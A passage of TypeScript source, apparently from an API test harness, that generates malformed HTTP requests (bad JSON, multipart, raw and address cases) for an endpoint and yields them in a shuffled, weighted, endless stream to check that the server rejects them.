      ...parts.headers,
    };
    if (bodyless) delete headers["Content-Type"];
    const body = bodyless ? undefined : parts.body;
    return { kind, what, method: sent, path: parts.path ?? goodPath, headers, body, expect };
  };
  // A JSON body judged as the server reads it: not UTF-8 or not JSON is malformed; JSON the call's
  // schema accepts is not, and is not sent (it could change what the consistency check compares).
  const judged: Maker["judged"] = (kind, what, body) => {
    let value: unknown;
    try {
      value = JSON.parse(utf8.decode(body));
    } catch {
      return request(kind, what, typed("application/json", body));
    }
    if (endpoint.request?.safeParse(value).success) return null;
    return request(kind, what, typed("application/json", body));
  };
  const maker: Maker = {
    target,
    method,
    goodPath,
    random,
    request,
    judged,
    add: (kind, make) => systematic.push({ kind, make }),
    addRandom: (kind, weight, make) => randomCases.push({ kind, weight, make }),
  };

  const kind = bodyKind(endpoint);
  if (kind === "json") for (const body of target.bodies) jsonCases(maker, body);
  if (kind === "multipart") multipartCases(maker, (target.bodies[0] ?? {}) as Record<string, string>);
  if (kind === "raw") rawCases(maker);
  const good = target.bodies[0];
  addressCases(
    maker,
    kind === "json" && good !== undefined ? typed("application/json", encoder.encode(jsonText(good))) : {},
  );
  // A request every call refuses: for a call none of whose random cases is malformed after all.
  const fallback = () =>
    request("query", "?q=%ZZ", {
      ...typed("application/json", encoder.encode("{")),
      path: `${goodPath}?q=%ZZ`,
    });
  return { systematic, randomCases, fallback };
}

/**
 * The malformed requests of one call, without end: every systematic case (in an order that reaches
 * each kind early), then random ones. Cases the call's schema would accept are left out.
 */
export function* malformedRequests(target: FuzzTarget, random: Random): Generator<FuzzRequest> {
  const { systematic, randomCases, fallback } = fuzzCases(target, random);
  // The systematic cases, each kind's in a random order, taken a kind at a time.
  const byKind = new Map<FuzzKind, Case[]>();
  for (const item of systematic) byKind.set(item.kind, [...(byKind.get(item.kind) ?? []), item]);
  const queues = random.shuffled([...byKind.values()].map((cases) => random.shuffled(cases)));
  while (queues.some((queue) => queue.length > 0)) {
    for (const queue of queues) {
      const made = queue.shift()?.make();
      if (made) yield made;
    }
  }
  // Then random cases without end; after many in a row that are not malformed, the fallback.
  const weighted = randomCases.flatMap((item) => Array.from({ length: item.weight }, () => item));
  for (let misses = 0; ;) {
    const made = random.pick(weighted).make();
    if (made) {
      misses = 0;
      yield made;
    } else if (++misses > 100) {
      misses = 0;
      yield fallback();
    }
  }
}

/** How many systematic cases a call has (some left out when made, as good after all): its share of a run. */
export const systematicCount = (target: FuzzTarget): number =>
  fuzzCases(target, new Random(0)).systematic.length;
